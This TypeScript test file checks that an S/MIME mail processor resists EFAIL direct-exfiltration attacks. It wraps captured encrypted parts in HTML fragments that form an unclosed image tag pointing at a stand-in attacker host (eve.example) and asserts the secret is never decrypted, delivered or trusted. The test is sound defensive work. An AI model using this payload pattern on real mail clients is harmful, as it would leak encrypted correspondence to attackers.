/** Decrypted and clear parts in one message (EFAIL direct exfiltration, covert content, SM-8). */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { CAST } from '../../harness/smime-identities.ts';
import {
  clear,
  crlf,
  DOMAIN,
  encrypted,
  message,
  multipart,
  opaque,
  textPart,
} from '../../harness/smime-maker.ts';
import { isBelieved, outcomesOf } from './expect.ts';

const FROM = 'From: bob@bravo.example\n';
const SECRET = 'the secret plan';
const secret = textPart(SECRET);
const dsa = { who: CAST.dsa, ...DOMAIN };
const html = (text: string): Buffer => crlf(`Content-Type: text/html\n\n${text}\n`);
const attached = (inner: Buffer): Buffer =>
  Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\n\r\n'), inner]);
const open = html('<img src="http://eve.example/');
const close = html('">');
const reply = textPart('Could you answer below? Thanks');

type Shape = readonly [string, Buffer];

/** `stolen` is a message for us that somebody has caught, signed inside or not. */
function shapes(stolen: Buffer): readonly Shape[] {
  return [
    ['HTML around it', multipart('mixed', open, stolen, close)],
    ['HTML before it', multipart('mixed', open, stolen)],
    ['HTML around it, related', multipart('related', open, stolen, close)],
    ['text and it', multipart('mixed', reply, stolen)],
    ['it and text', multipart('mixed', stolen, reply)],
    ['it alone in a multipart', multipart('mixed', stolen)],
    ['as an alternative', multipart('alternative', reply, stolen)],
    ['two levels down', multipart('mixed', reply, multipart('related', open, stolen, close))],
    ['as an attached message', attached(message(FROM, stolen))],
    [
      'as an attached message beside HTML',
      multipart('mixed', open, attached(message(FROM, stolen))),
    ],
    ['hidden by a style', multipart('mixed', html('<div style="display:none">'), stolen, reply)],
    ['twice', multipart('mixed', stolen, stolen)],
    ['in a digest', multipart('digest', message(FROM, stolen))],
    ['beside a signed part', multipart('mixed', clear(reply, [dsa]), stolen)],
    ['in an empty layer with HTML', opaque(multipart('mixed', open, stolen, close), [])],
    [
      'signed by a stranger with HTML',
      opaque(multipart('mixed', open, stolen, close), [{ who: CAST.eve }]),
    ],
    [
      'signed by a liar with HTML',
      clear(multipart('mixed', open, stolen), [{ who: CAST.fakeDsa, ...DOMAIN }]),
    ],
  ];
}

const STOLEN: readonly Shape[] = [
  ['CBC, signed inside', encrypted(opaque(secret, [dsa]))],
  ['CBC, unsigned', encrypted(secret)],
  ['GCM, signed inside', encrypted(opaque(secret, [dsa]), 'gcm')],
  ['GCM, unsigned', encrypted(secret, 'gcm')],
];

for (const [what, stolen] of STOLEN) {
  describe(`SM-8: an encrypted part beside others is not opened: ${what}`, () => {
    for (const [name, entity] of shapes(stolen)) {
      test(name, async () => {
        for (const from of [FROM, 'From: eve@evil.example\n']) {
          const outcomes = await outcomesOf(message(from, entity));
          for (const { judgement, delivered, unwraps } of outcomes) {
            assert.equal(unwraps, 0, 'no key is asked for');
            assert.ok(!delivered.includes(SECRET));
            assert.ok(judgement.kind === 'judged');
            const { verdict } = judgement;
            // What Eve signs whole in her own name is hers; the stolen part in it stays shut.
            const isHers = name.startsWith('signed by a stranger') && from !== FROM;
            if (!isHers) assert.ok(!isBelieved(verdict), verdict.reason);
          }
        }
      });
    }
  });
}

describe('SM-8: a part that somebody put beside others before encryption is theirs to answer for', () => {
  const INSIDE: readonly Shape[] = [
    ['a signed part beside HTML', multipart('mixed', open, clear(secret, [dsa]), close)],
    ['a signed part beside text', multipart('mixed', reply, opaque(secret, [dsa]))],
    ['a signed message attached', attached(message(FROM, clear(secret, [dsa])))],
    ['an encrypted part beside HTML', multipart('mixed', open, encrypted(secret), close)],
    ['a signed part in an empty layer', opaque(multipart('mixed', open, clear(secret, [dsa])), [])],
  ];
  for (const [name, inside] of INSIDE) {
    test(name, async () => {
      for (const { judgement, delivered } of await outcomesOf(message(FROM, encrypted(inside)))) {
        assert.ok(judgement.kind === 'judged');
        assert.equal(judgement.verdict.integrity, false, 'the part does not vouch for the whole');
        assert.ok(!isBelieved(judgement.verdict));
        assert.equal(delivered, '');
      }
      const sealed = message(FROM, encrypted(inside, 'gcm'));
      for (const { judgement } of await outcomesOf(sealed)) {
        assert.ok(judgement.kind === 'judged' && !isBelieved(judgement.verdict));
      }
    });
  }
});

test('positive control: several layers for us, one inside the other, are opened one after the other', async () => {
  const twice = encrypted(encrypted(opaque(secret, [dsa])));
  for (const { unwraps, judgement } of await outcomesOf(message(FROM, twice))) {
    assert.equal(unwraps, 2);
    assert.ok(judgement.kind === 'judged' && isBelieved(judgement.verdict));
  }
});
